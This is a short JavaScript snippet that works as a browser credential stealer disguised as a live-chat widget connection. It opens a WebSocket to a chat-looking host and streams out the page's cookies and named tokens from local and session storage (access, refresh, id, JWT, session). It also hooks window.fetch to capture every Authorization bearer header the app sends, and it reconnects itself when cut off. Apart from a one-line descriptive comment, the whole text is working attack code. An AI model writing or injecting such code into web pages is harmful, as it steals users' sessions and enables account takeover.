// corpus note: opens a WebSocket to a fake "live chat" server and streams cookies, storage tokens and Authorization headers seen on outgoing fetches
(function () {
  var WS_URL = "wss://chat.livehelp-widgets.test/socket/v3";
  var queue = [];
  var sock;

  function push(kind, data) {
    var msg = JSON.stringify({ k: kind, d: data, h: location.host, t: Date.now() });
    if (sock && sock.readyState === 1) sock.send(msg); else queue.push(msg);
  }

  function connect() {
    sock = new WebSocket(WS_URL);
    sock.onopen = function () {
      while (queue.length) sock.send(queue.shift());
    };
    sock.onclose = function () { setTimeout(connect, 5000); };
  }
  connect();

  push("ck", document.cookie);
  ["access_token", "id_token", "refresh_token", "authToken", "jwt", "sessionToken"].forEach(function (k) {
    var v = localStorage.getItem(k) || sessionStorage.getItem(k);
    if (v) push("st", { key: k, val: v });
  });

  // observe bearer tokens the app itself sends
  var _fetch = window.fetch;
  window.fetch = function (input, init) {
    try {
      var hdrs = init && init.headers;
      var auth = hdrs && (hdrs.get ? hdrs.get("Authorization") : (hdrs.Authorization || hdrs.authorization));
      if (auth) push("hdr", { url: String(input && input.url || input), auth: auth });
    } catch (e) {}
    return _fetch.apply(this, arguments);
  };
})();
